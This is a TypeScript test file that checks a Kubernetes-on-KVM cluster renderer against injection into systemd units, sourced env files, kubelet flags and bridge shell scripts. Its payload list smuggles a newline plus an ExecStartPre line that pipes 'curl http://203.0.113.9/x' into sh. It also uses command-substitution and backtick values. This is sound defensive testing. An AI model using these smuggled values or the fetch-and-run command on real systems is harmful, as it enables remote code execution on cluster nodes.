/**
 * Every user-written string the renderers write into a unit, a script, an environment file or a
 * flag, fed with what breaks each of them: the rendering either refuses (an `Unrenderable` error
 * value naming the field) or carries the value only correctly quoted, which this test proves by
 * reading the output back as its reader would (systemd's unit and command line syntax, `sh`).
 */
import { spawnSync } from 'node:child_process';
import { existsSync, mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { clusterId, NodeRole } from '@kubeception/sdk';
import { afterAll, describe, expect, it } from 'vitest';
import type { KvmCluster } from './cluster.js';
import { GuestPath } from './guest-files.js';
import type { IgnitionConfig } from './ignition.js';
import { BOOT_CONFIG_KEY } from './launcher.js';
import type { ConfigMap, DaemonSet } from './objects.js';
import { renderBridgeCleanupDaemonSet, renderFlannelDaemonSet } from './flannel.js';
import { bridgeName } from './names.js';
import { renderCluster, type RenderedCluster } from './render-cluster.js';
import { execArgv, expandSpecifiers, unitSettings } from './systemd-model.test-support.js';
import { haCluster, haInputs } from './test-fixtures.js';

/** Whether `value` holds a C0 control character or DEL (newline, CR, NUL, …). */
const hasControlCharacter = (value: string) => [...value].some((c) => c.charCodeAt(0) < 0x20 || c.charCodeAt(0) === 0x7f);
const tmp = mkdtempSync(join(tmpdir(), 'kc-injection-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));
/** A file a successful injection would create. */
const PWNED = join(tmp, 'pwned');

/** What breaks units, scripts and flags. */
const VALUES: readonly string[] = [
  'a\nExecStartPre=/bin/sh -c "curl http://203.0.113.9/x | sh"',
  'a\rb',
  'nul\0byte',
  "it's",
  'say "hi"',
  `$(touch ${PWNED})`,
  `\`touch ${PWNED}\``,
  '%n%h%%',
  'back\\slash',
  'tail\\',
  'two words',
  ';',
  '${PATH}',
  'x=y,node-role.kubernetes.io/control-plane=',
];

type Edit = (c: { -readonly [K in keyof KvmCluster]: any }, value: string) => void; // eslint-disable-line @typescript-eslint/no-explicit-any

/** Every user-written field that reaches a unit, a script, an environment file or a flag. */
const FIELDS: Record<string, Edit> = {
  'metadata.name': (c, v) => {
    c.metadata = { ...c.metadata, name: v };
    c.id = clusterId({ namespace: c.metadata.namespace, name: v });
  },
  'metadata.namespace': (c, v) => {
    c.metadata = { ...c.metadata, namespace: v };
    c.id = clusterId({ namespace: v, name: c.metadata.name });
  },
  'spec.workers[0].name': (c, v) => (c.spec.workers[0].name = v),
  'spec.workers[1].labels (key)': (c, v) => (c.spec.workers[1].labels = { [v]: 'true' }),
  'spec.workers[1].labels (value)': (c, v) => (c.spec.workers[1].labels = { 'example.com/gpu': v }),
  'spec.kubernetes.version': (c, v) => (c.spec.kubernetes.version = v),
  'spec.kubernetes.api.domain': (c, v) => (c.spec.kubernetes.api.domain = v),
  'spec.kubernetes.api.serviceCIDR': (c, v) => (c.spec.kubernetes.api.serviceCIDR = v),
  'spec.network.podCIDR': (c, v) => (c.spec.network.podCIDR = v),
  'spec.kubernetes.dns.clusterDomain': (c, v) => (c.spec.kubernetes.dns.clusterDomain = v),
};

const CASES = Object.entries(FIELDS).flatMap(([field, edit]) => VALUES.map((value) => [field, JSON.stringify(value), value, edit] as const));

const baseline = renderCluster(haCluster(), haInputs)._unsafeUnwrap();
const ignitions = (rendered: RenderedCluster) =>
  rendered.objects
    .filter((o): o is ConfigMap => o.kind === 'ConfigMap')
    .map((cm) => ({ node: cm.metadata?.name ?? '', config: JSON.parse(cm.data?.[BOOT_CONFIG_KEY] ?? '') as IgnitionConfig }));
const fileText = (config: IgnitionConfig, path: string) =>
  decodeURIComponent(config.storage.files.find((f) => f.path === path)?.contents.source.replace(/^data:,/, '') ?? '');

/** The shape of a unit: its setting keys per section and the number of words of each command line. */
function unitShape(contents: string): string[] {
  return unitSettings(contents).map((s) => (s.key.startsWith('Exec') ? `${s.section}.${s.key}:${execArgv(s.value).length}` : `${s.section}.${s.key}`));
}

/** The values `node.env` holds, as `sh` reads them (a sourced file that must not run anything). */
function sourced(env: string): Record<string, string> {
  const file = join(tmp, 'node.env');
  writeFileSync(file, env);
  const keys = [...env.matchAll(/^([A-Z_]+)=/gm)].map((m) => m[1] ?? '');
  const script = `. "$1" && printf '%s\\0' ${keys.map((k) => `"$${k}"`).join(' ')}`;
  expect(spawnSync('sh', ['-n', file]).status).toBe(0);
  const run = spawnSync('sh', ['-c', script, 'sh', file], { encoding: 'utf8' });
  expect(run.status, run.stderr).toBe(0);
  const values = run.stdout.split('\0');
  return Object.fromEntries(keys.map((k, i) => [k, values[i] ?? '']));
}

/** Units that systemd itself flags (quoting, escapes, settings), when `systemd-analyze` is installed. */
function systemdComplaints(units: readonly { name: string; contents: string }[]): string[] {
  const dir = mkdtempSync(join(tmp, 'units-'));
  for (const u of units) writeFileSync(join(dir, u.name), u.contents);
  const run = spawnSync(
    'systemd-analyze',
    ['verify', '--man=no', '--generators=no', ...units.filter((u) => u.name.endsWith('.service')).map((u) => join(dir, u.name))],
    { encoding: 'utf8', timeout: 30_000 },
  );
  if (run.error !== undefined) return []; // not installed: the model above is the check
  return `${run.stdout}${run.stderr}`
    .split('\n')
    .filter((line) => line.trim() !== '' && !/not found|is not executable|Failed to create|bad unit file setting|fatal error/.test(line));
}

describe('user-written values in units, scripts and flags', () => {
  it.each(CASES)('%s = %s: refused, or read back intact', (field, _shown, value, edit) => {
    const cluster = structuredClone(haCluster()) as unknown as Parameters<Edit>[0];
    edit(cluster, value);
    const result = renderCluster(cluster as KvmCluster, haInputs);
    if (hasControlCharacter(value)) expect(result.isErr(), 'a control character is never written').toBe(true);
    if (result.isErr()) {
      expect(result.error.kind).toBe('Unrenderable');
      expect(result.error.message.length).toBeGreaterThan(0);
      return;
    }
    const rendered = result.value;
    const kc = cluster as KvmCluster;
    const before = new Map(ignitions(baseline).map((i) => [i.node, i.config]));
    const after = ignitions(rendered);
    expect(after.map((i) => i.node)).toEqual([...before.keys()].map((n) => n)); // no node appeared or vanished
    let seen = false;
    for (const { node, config } of after) {
      const base = before.get(node) as IgnitionConfig;
      // every unit has the settings and command line words it always has: nothing injected, nothing split
      expect(config.systemd.units.map((u) => u.name)).toEqual(base.systemd.units.map((u) => u.name));
      for (const [i, unit] of config.systemd.units.entries()) {
        expect(unitShape(unit.contents), `${node} ${unit.name}`).toEqual(unitShape(base.systemd.units[i]?.contents ?? ''));
        for (const s of unitSettings(unit.contents)) {
          const read = s.key.startsWith('Exec') ? execArgv(s.value) : [expandSpecifiers(s.value)];
          if (read.some((word) => word.includes(value))) seen = true;
        }
      }
      // the kubelet's --node-labels, split as the kubelet splits it, are exactly the node's labels
      const kubelet = config.systemd.units.find((u) => u.name === 'kubelet.service')?.contents ?? '';
      const argv = execArgv(unitSettings(kubelet).find((x) => x.key === 'ExecStart')?.value ?? '');
      const flag = argv.find((w) => w.startsWith('--node-labels='))?.slice('--node-labels='.length) ?? '';
      const pool = kc.spec.workers.find((p) => node.startsWith(`${kc.metadata.name}-${p.name}-`));
      const expected = {
        'kubeception.io/role': node.includes('-master-') ? 'master' : 'worker',
        ...(pool ? { 'kubeception.io/pool': pool.name, ...pool.labels } : {}),
      };
      expect(Object.fromEntries(flag.split(',').map((pair) => [pair.slice(0, pair.indexOf('=')), pair.slice(pair.indexOf('=') + 1)])), node).toEqual(expected);
      // node.env reads back as the values, and sourcing it runs nothing
      const env = sourced(fileText(config, GuestPath.NodeEnv));
      const role = node.includes('-master-') ? NodeRole.Master : NodeRole.Worker;
      expect(env).toMatchObject({
        CLUSTER: kc.metadata.name,
        CLUSTER_ID: kc.id,
        ROLE: role,
        KUBERNETES_VERSION: kc.spec.kubernetes.version,
        SERVICE_CIDR: kc.spec.kubernetes.api.serviceCIDR,
        POD_CIDR: kc.spec.network.podCIDR,
        CLUSTER_DOMAIN: kc.spec.kubernetes.dns.clusterDomain,
      });
      if (Object.values(env).some((v) => v.includes(value))) seen = true;
      // the JSON files parse, and carry the value as a string
      for (const f of config.storage.files.filter((f) => f.path.endsWith('.json'))) {
        const text = fileText(config, f.path);
        expect(() => JSON.parse(text), f.path).not.toThrow();
        if (JSON.stringify(JSON.parse(text)).includes(JSON.stringify(value).slice(1, -1))) seen = true;
      }
    }
    expect(existsSync(PWNED), 'nothing ran').toBe(false);
    // where it landed, it landed whole (the namespace only names the Cluster on the host, in annotations)
    if (field !== 'metadata.namespace') expect(seen, `${field} appears in what the guest reads`).toBe(true);
    expect(systemdComplaints(after[0]?.config.systemd.units ?? [])).toEqual([]);
  });

  it('refuses a newline in a worker pool label (the reported injection) with the field', () => {
    const cluster = structuredClone(haCluster()) as unknown as Parameters<Edit>[0];
    FIELDS['spec.workers[1].labels (value)']?.(cluster, 'true\nExecStartPre=/bin/sh -c "curl http://203.0.113.9/x | sh"');
    const error = renderCluster(cluster as KvmCluster, haInputs)._unsafeUnwrapErr();
    expect(error).toMatchObject({ kind: 'Unrenderable', field: 'spec.workers[1].labels["example.com/gpu"]' });
    expect(error.message).toContain('U+000A');
  });

  it('runs the bridge scripts with the bridge name as one word, whatever the cluster ID holds', () => {
    const bin = join(tmp, 'bin');
    mkdirSync(bin, { recursive: true });
    const log = join(tmp, 'ip.log');
    // a stub `ip` recording its arguments, NUL-separated, one call per line
    writeFileSync(join(bin, 'ip'), `#!/bin/sh\nfor a in "$@"; do printf '%s\\0' "$a" >> "${log}"; done\nprintf '\\n' >> "${log}"\nexit 1\n`, { mode: 0o755 });
    for (const id of ["a'b", 'a b', '$(id)', '`x`', 'a;b']) {
      const cluster = { ...haCluster(), id } as KvmCluster;
      const setup =
        (renderFlannelDaemonSet(cluster, haInputs.flannel)._unsafeUnwrap() as DaemonSet).spec?.template.spec?.initContainers?.[0]?.command?.[2] ?? '';
      const cleanup = (renderBridgeCleanupDaemonSet(cluster, 7)._unsafeUnwrap() as DaemonSet).spec?.template.spec?.containers[0]?.command?.[2] ?? '';
      for (const script of [
        setup,
        cleanup.replace('exec sleep 2147483647', 'true').replace('touch /tmp/clean', 'true').replace('rm -f /run/flannel/subnet.env', 'true'),
      ]) {
        rmSync(log, { force: true });
        expect(spawnSync('sh', ['-n', '-c', script]).status, script).toBe(0);
        spawnSync('sh', ['-c', script], { env: { PATH: `${bin}:${process.env.PATH}` } });
        const calls = spawnSync('cat', [log], { encoding: 'utf8' })
          .stdout.split('\n')
          .filter(Boolean)
          .map((line) => line.split('\0').slice(0, -1));
        expect(calls.length, script).toBeGreaterThan(0);
        for (const call of calls.filter((c) => c[1] !== 'del' || c[2] !== 'flannel.7')) expect(call[2], `${id}: ${script}`).toBe(bridgeName(id));
      }
    }
    expect(existsSync(PWNED)).toBe(false);
  });
});
